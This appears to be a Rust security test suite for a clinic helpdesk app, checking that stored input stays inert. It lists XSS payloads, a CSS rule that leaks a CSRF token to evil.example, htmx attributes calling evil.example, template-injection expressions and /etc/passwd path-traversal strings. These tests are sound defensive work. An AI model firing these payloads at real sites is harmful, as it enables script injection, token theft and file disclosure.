//! Attacks that others fell to, tried on the pages. Numbers are those of the list that the threat model names.

#![expect(clippy::unwrap_used, reason = "a test may fail by panicking")]

mod common;

use crate::common::Role;
use axum::body::Body;
use axum::http::Method;
use bedside_desk::config::clinic::TEMPLATES;
use bedside_desk::context::Permissions;
use bedside_desk::router::{Access, routes};
use bedside_desk::staff::{self, NewToken};
use bedside_desk::{jobs, search};
use bedside_testkit::XSS;
use common::markup::{fault, html_of, is_harmless, lists};
use common::sink::sink;
use common::{Engine, both_engines, csrf_token};
use serde_json::json;
use std::fmt::Write;

/// What breaks out of other places than markup: scripts, attributes of htmx, templates, characters in disguise. Beside
/// [`XSS`].
const MORE: &[&str] = &[
    "<keygen autofocus onfocus=alert(1)>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<style>input[name=csrf_token][value^=a]{background:url(//evil.example/a)}</style>",
    "x\" hx-get=\"https://evil.example/\" hx-trigger=\"load",
    "' hx-post='https://evil.example/' x='",
    "'-alert(1)-'",
    "\\\"-alert(1)//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)",
    "\u{2028}alert(1)\u{2029}",
    "\u{feff}<script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<ﬁeldset onfocus=alert(1)>",
    "＜script＞alert(1)＜/script＞",
];

/// What the template languages of this world reckon out, and ours where it stands in a text.
const EXPRESSIONS: &[&str] = &[
    "{{1301*1009}}",
    "{{ 1301 * 1009 }}",
    "{{'1301'*1009}}",
    "{% print(1301*1009) %}",
    "{% raw %}{{1301*1009}}{% endraw %}",
    "{# 1301*1009 #}",
    "${1301*1009}",
    "#{1301*1009}",
    "<%= 1301*1009 %>",
    "@(1301*1009)",
    "[[${1301*1009}]]",
    "%{1301*1009}",
    "{ NUMBER(1301, minimumFractionDigits: 3) }",
    "{ $name }{ clinic_name }",
];
/// What they would come to.
const RECKONED: [&str; 3] = ["1312709", "1,301.000", "1301.000"];

/// The words of a page as a person reads them.
fn read(page: &str) -> String {
    let mut text = String::new();
    let mut rest = page;
    while let Some((before, after)) = rest.split_once('&') {
        text.push_str(before);
        let known = after.split_once(';').and_then(|(name, after)| {
            let c = match name {
                "lt" => '<',
                "gt" => '>',
                "amp" => '&',
                "quot" => '"',
                _ => char::from_u32(name.strip_prefix('#')?.parse().ok()?)?,
            };
            Some((c, after))
        });
        let (c, after) = known.unwrap_or(('&', after));
        text.push(c);
        rest = after;
    }
    text + rest
}

/// A page on which nothing was reckoned out.
#[track_caller]
fn not_reckoned(what: &str, page: &str) {
    for result in RECKONED {
        let found = page
            .replace("{ NUMBER(1301, minimumFractionDigits: 3) }", "")
            .contains(result);
        assert!(!found, "{what}: {page}");
    }
}

both_engines! {
    /// Every payload through the API, and every page and answer that shows it.
    async fn attack_53_names_and_subjects_stay_words(desk: Desk) {
        let agent = desk.browser(Role::Agent).await;
        let api = desk.client(&Permissions::ALL.codes()).await;
        // All of them on one engine: pages are made the same way on the other.
        let step = if desk.engine == Engine::Sqlite { 1 } else { 9 };
        let payloads: Vec<&str> = XSS.iter().chain(MORE).copied().step_by(step).collect();
        let (mut tickets, mut people) = (0, 0);
        for (number, payload) in payloads.iter().enumerate() {
            let requester = json!({ "email": format!("p{number}@patient.example"), "name": payload });
            let made = api.post("/api/v1/tickets", &json!({ "requester": requester, "subject": payload, "body": payload })).await;
            let patient = api.post("/api/v1/patients", &json!({ "name": payload })).await;
            if made.status == 422 && payload.contains('\0') {
                continue;
            }
            let made = made.expect(201).json();
            let id = made["id"].as_str().unwrap();
            api.post(&format!("/api/v1/tickets/{id}/notes"), &json!({ "body": payload })).await.expect(201);
            let mut pages = vec![format!("/tickets/{id}")];
            let mut answers = vec![format!("/api/v1/tickets/{id}"), format!("/api/v1/tickets/{id}/messages")];
            if patient.status == 201 {
                people += 1;
                let way = patient.header("location").unwrap();
                pages.extend([way.replace("/api/v1", ""), format!("{}/edit", way.replace("/api/v1", ""))]);
                answers.push(way.to_owned());
            }
            for way in pages {
                is_harmless(&way, &agent.get(&way).await.expect(200), payload);
            }
            for way in answers {
                let answer = api.get(&way).await.expect(200);
                // JSON is never taken for a page, and what it calls HTML is safe to show.
                assert_eq!(answer.header("content-type"), Some("application/json"));
                assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
                let mut found = Vec::new();
                html_of(&answer.json(), &mut found);
                for html in found {
                    assert_eq!(fault(&html), None, "{payload}\n-> {html}");
                }
            }
            tickets += 1;
        }
        assert!(tickets * step >= 223 && people * step >= 223, "{tickets} {people}");
        search::catch_up(&desk.app, desk.organisation).await.unwrap();
        for page in lists(&agent, "/inbox").await {
            is_harmless("a list", &page, "any");
        }
        for (page, field) in [("/search", "q"), ("/patients", "name"), ("/patients/new", "name"), ("/tickets/new", "subject"), ("/tickets/new", "body")] {
            let token = csrf_token(&agent.get(page).await.expect(200).text());
            for payload in &payloads {
                let answer = agent.post(page, &[("csrf_token", &token), (field, payload)]).await;
                is_harmless(&format!("{page} {field}"), &answer, payload);
            }
        }
        // Hashing a password takes its time, so a few do here.
        for payload in payloads.iter().rev().step_by(50 / step) {
            let typed = desk.visitor().submit("/sign-in", "/sign-in", &[("email", payload), ("password", payload), ("next", payload)]).await;
            is_harmless("the sign-in", &typed, payload);
        }
    }

    /// Expressions in every field of patients, of staff and of the clinic, and in its templates: printed as they are
    /// written, or refused where braces mean something.
    async fn attack_30_expressions_stay_words(desk: Desk) {
        let sink = sink(&desk).await;
        let (agent, admin) = (desk.browser(Role::Agent).await, desk.browser(Role::Administrator).await);
        let api = desk.client(&Permissions::ALL.codes()).await;
        let version = |page: &str| page.split_once("name=\"version\" value=\"").unwrap().1.split('"').next().unwrap().to_owned();
        for (number, text) in EXPRESSIONS.iter().enumerate() {
            // The clinic's own texts.
            let reply = [("title", *text), ("code", &format!("x{number}")), ("locale", "en"), ("body", text)];
            admin.submit("/settings/replies/new", "/settings/replies/new", &reply).await.expect(303);
            let queue = [("name_en", *text), ("name_es", text), ("position", "9"), ("version", "0")];
            admin.submit("/settings/queues/new", "/settings/queues/new", &queue).await.expect(303);
            // Braces are for names alone and a comment is for nobody; what opens neither is a word like any other.
            let (opens, comment) = (["{{", "{%"].iter().any(|open| text.contains(open)), text.contains("{#"));
            // What tells a colleague of a mail that did not arrive is changed in the clinic's files alone.
            for (code, _) in TEMPLATES.into_iter().filter(|(code, _)| *code != "bounce") {
                let path = format!("/settings/templates/{code}/en");
                let body = &desk.app.directory.of(desk.organisation).unwrap().templates[&(code.to_owned(), "en".to_owned())].body;
                let body = format!("{body}\n{text}");
                let seen = version(&admin.get(&path).await.expect(200).text());
                let fields = [("version", seen.as_str()), ("subject", "News"), ("body", &body), ("do", "preview")];
                let answer = admin.submit(&path, &path, &fields).await.expect(if opens { 422 } else { 200 }).text();
                not_reckoned(&path, &answer);
                // Once where it is typed, and once where it is filled in.
                let times = if opens || comment { 1 } else { 2 };
                assert!(read(&answer).matches(text).count() >= times, "{path} {text}: {answer}");
            }
            // Whatever a patient gives.
            let address = format!("x{number}@patients.test");
            let requester = json!({ "email": address, "name": text });
            let ticket = json!({ "requester": requester, "subject": text, "body": text, "channel": "email" });
            let made = api.post("/api/v1/tickets", &ticket).await.expect(201).json();
            let id = made["id"].as_str().unwrap();
            let patient = api.post("/api/v1/patients", &json!({ "name": text })).await.expect(201);
            let etag = api.get(&format!("/api/v1/tickets/{id}")).await.header("etag").unwrap().to_owned();
            api.patch(&format!("/api/v1/tickets/{id}"), &etag, &json!({ "add_tags": [text] })).await.expect(422);
            let page = agent.get(&format!("/tickets/{id}")).await.expect(200).text();
            let token = csrf_token(&page);
            let file = ("files", text.trim_matches('"'), "text/plain", b"x".as_slice());
            let fields = [("csrf_token", token.as_str()), ("kind", "note"), ("body", text)];
            agent.post_files(&format!("/tickets/{id}/messages"), &fields, &[file]).await.expect(303);
            api.post(&format!("/api/v1/tickets/{id}/messages"), &json!({ "body": text })).await.expect(201);
            let page = agent.get(&format!("/tickets/{id}")).await.expect(200).text();
            not_reckoned(text, &page);
            assert!(read(&page).matches(text).count() >= 3, "{text} in {page}");
            let patient = agent.get(&patient.header("location").unwrap().replace("/api/v1", "")).await.expect(200).text();
            not_reckoned(text, &patient);
            assert!(read(&patient).contains(text), "{text} in {patient}");
            for (page, field) in [("/search", "q"), ("/patients", "name"), ("/tickets/new", "subject")] {
                not_reckoned(page, &agent.submit(page, page, &[(field, text)]).await.text());
            }
            // The mails about it: the answer says it as it was written, the acknowledgement not at all.
            jobs::drain(&desk.app).await.unwrap();
            desk.clock.advance(10);
            jobs::drain(&desk.app).await.unwrap();
            let sent = sink.take();
            assert!(!sent.is_empty());
            for one in &sent {
                let mail = one.mail();
                for said in [one.text(), mail.html.unwrap_or_default(), mail.subject.clone()] {
                    not_reckoned("a mail", &said);
                }
                assert!(one.text().contains(text) || !mail.subject.contains(text), "{}", one.text());
            }
            assert!(sent.iter().any(|one| one.text().contains(text)), "{text}");
        }
        for page in ["/inbox", "/settings/replies", "/settings/queues", "/settings/templates", "/settings"] {
            not_reckoned(page, &admin.get(page).await.expect(200).text());
        }
    }

    async fn attack_24_a_path_is_no_file(desk: Desk) {
        let admin = desk.browser(Role::Administrator).await;
        for name in [
            "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "....//....//etc/passwd", "%2fetc%2fpasswd", "..%5c..%5cboot.ini",
            "file:%2f%2f%2fetc%2fpasswd", "root.key", "bedside.db", "%00", "..;/..;/etc/passwd", "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
        ] {
            for folder in ["/assets/", "/attachments/", "/api/v1/attachments/", "/docs/", "/", "/settings/mailboxes/", "/audit/"] {
                let answer = admin.get(&format!("{folder}{name}")).await;
                assert!((400..500).contains(&answer.status), "{folder}{name}: {}", answer.status);
                assert!(!answer.text().contains("root:"), "{folder}{name}");
            }
        }
    }

    async fn attack_43_no_secret_is_shown(desk: Desk) {
        let words = "correct horse battery staple";
        let admin_id = desk.id_of(Role::Administrator);
        staff::set_password(&desk.app, &desk.ctx(Role::Administrator), admin_id, words).await.unwrap();
        let new = NewToken { name: "secret".to_owned(), scopes: Permissions::ALL, queues: staff::Queues::All, expires_at: None };
        let (token_id, token) = staff::create_token(&desk.app, &desk.system(), new).await.unwrap();
        let session = staff::admit(&desk.app, desk.organisation, admin_id, "test", "").await.unwrap();
        let mut secrets = vec![words.to_owned(), token.clone(), session.token.clone(), "$argon2".to_owned()];
        for file in std::fs::read_dir(desk.folder().join("keys")).unwrap().map(|entry| entry.unwrap().path()) {
            secrets.push(String::from_utf8_lossy(&std::fs::read(&file).unwrap()).trim().to_owned());
        }
        assert!(secrets.len() >= 5, "the key's file was not found");
        let ticket = desk.ticket("rosa@patient.example", "My bill", "Why?").await.to_string();
        let cookie = format!("bedside={}", session.token);
        let bearer = format!("Bearer {token}");
        for route in routes().into_iter().filter(|route| route.method == Method::GET) {
            let way = route.path
                .replace("{id}", if route.path.contains("/settings/") { "new" } else { &ticket })
                .replace("{ticket}", &ticket)
                .replace("{sequence}", "1");
            let headers = if matches!(route.access, Access::Api(_) | Access::AnyApi) {
                [("authorization", bearer.as_str())]
            } else {
                [("cookie", cookie.as_str())]
            };
            let answer = desk.stranger().request(Method::GET, &way, &headers, Body::empty()).await;
            let mut all = answer.text();
            for (name, value) in &answer.headers {
                let _ = write!(all, "\n{name}: {}", String::from_utf8_lossy(value.as_bytes()));
            }
            for secret in &secrets {
                assert!(!all.contains(secret.as_str()), "{} {way} shows a secret", route.path);
            }
        }
        let list = desk.browser(Role::Administrator).await.get("/settings/tokens").await.expect(200).text();
        assert!(list.contains(&token_id.to_string()) || list.contains("secret"));
    }
}
